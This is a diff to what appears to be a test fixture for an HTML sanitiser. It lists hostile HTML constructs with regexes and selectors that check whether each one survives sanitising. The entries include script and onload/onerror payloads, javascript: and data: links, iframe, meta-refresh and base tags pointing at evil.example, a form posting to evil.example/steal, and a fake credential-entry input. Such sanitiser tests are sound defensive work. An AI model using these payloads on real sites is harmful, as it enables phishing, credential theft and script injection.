@@ -11,21 +11,23 @@ export interface HostileConstruct {
   html: string;
   /** Matches the sanitised HTML if the construct survived. */
   survives: RegExp;
-  /** Matches an element of the page if the construct reached the DOM. */
+  /** Matches an element inside a rendered text of the page if the construct reached the DOM there. */
   selector: string;
+  /** Also looked for in the whole document (elements the page itself never has). */
+  anywhere?: boolean;
 }
 
 export const HOSTILE_CONSTRUCTS: HostileConstruct[] = [
-  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">', survives: /<meta|http-equiv/i, selector: 'meta[http-equiv], meta[content*="evil"]' },
-  { name: 'base', html: '<base href="https://evil.example/">', survives: /<base/i, selector: 'base' },
-  { name: 'form', html: '<form action="https://evil.example/steal" method="post"><button>提交</button></form>', survives: /<form|action=/i, selector: 'form, button[formaction]' },
-  { name: 'input', html: '<input name="code" placeholder="再次输入凭证码">', survives: /<input/i, selector: '[data-testid="owner-item"] input, input[name="code"]' },
-  { name: 'iframe', html: '<iframe src="https://evil.example/"></iframe>', survives: /<iframe/i, selector: 'iframe' },
-  { name: 'object', html: '<object data="https://evil.example/x.swf"></object>', survives: /<object/i, selector: 'object' },
-  { name: 'embed', html: '<embed src="https://evil.example/x.swf">', survives: /<embed/i, selector: 'embed' },
-  { name: 'style', html: '<style>body{display:none}</style>', survives: /<style/i, selector: '[data-testid="owner-item"] style' },
-  { name: 'script', html: '<script>window.__hostile = 1</script>', survives: /<script/i, selector: '[data-testid="owner-item"] script' },
-  { name: 'svg onload', html: '<svg onload="window.__hostile = 2"><circle r="5"></circle></svg>', survives: /<svg|onload/i, selector: '[data-testid="owner-item"] svg, [onload]' },
+  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">', survives: /<meta|http-equiv/i, selector: 'meta[http-equiv]', anywhere: true },
+  { name: 'base', html: '<base href="https://evil.example/">', survives: /<base/i, selector: 'base', anywhere: true },
+  { name: 'form', html: '<form action="https://evil.example/steal" method="post"><button>提交</button></form>', survives: /<form|action=/i, selector: 'form, button' },
+  { name: 'input', html: '<input name="code" placeholder="再次输入凭证码">', survives: /<input/i, selector: 'input' },
+  { name: 'iframe', html: '<iframe src="https://evil.example/"></iframe>', survives: /<iframe/i, selector: 'iframe', anywhere: true },
+  { name: 'object', html: '<object data="https://evil.example/x.swf"></object>', survives: /<object/i, selector: 'object', anywhere: true },
+  { name: 'embed', html: '<embed src="https://evil.example/x.swf">', survives: /<embed/i, selector: 'embed', anywhere: true },
+  { name: 'style', html: '<style>body{display:none}</style>', survives: /<style/i, selector: 'style' },
+  { name: 'script', html: '<script>window.__hostile = 1</script>', survives: /<script/i, selector: 'script' },
+  { name: 'svg onload', html: '<svg onload="window.__hostile = 2"><circle r="5"></circle></svg>', survives: /<svg|onload/i, selector: 'svg, [onload]' },
   { name: 'img onerror', html: '<img src="/nothing.png" onerror="window.__hostile = 3">', survives: /onerror|nothing\.png/i, selector: '[onerror], img[src="/nothing.png"]' },
   { name: 'javascript: link', html: '<a href="javascript:window.__hostile = 4">点我</a>', survives: /javascript:/i, selector: 'a[href^="javascript" i]' },
   { name: 'data: link', html: '<a href="data:text/html,<script>alert(1)</script>">数据</a>', survives: /href="data:/i, selector: 'a[href^="data:" i]' },
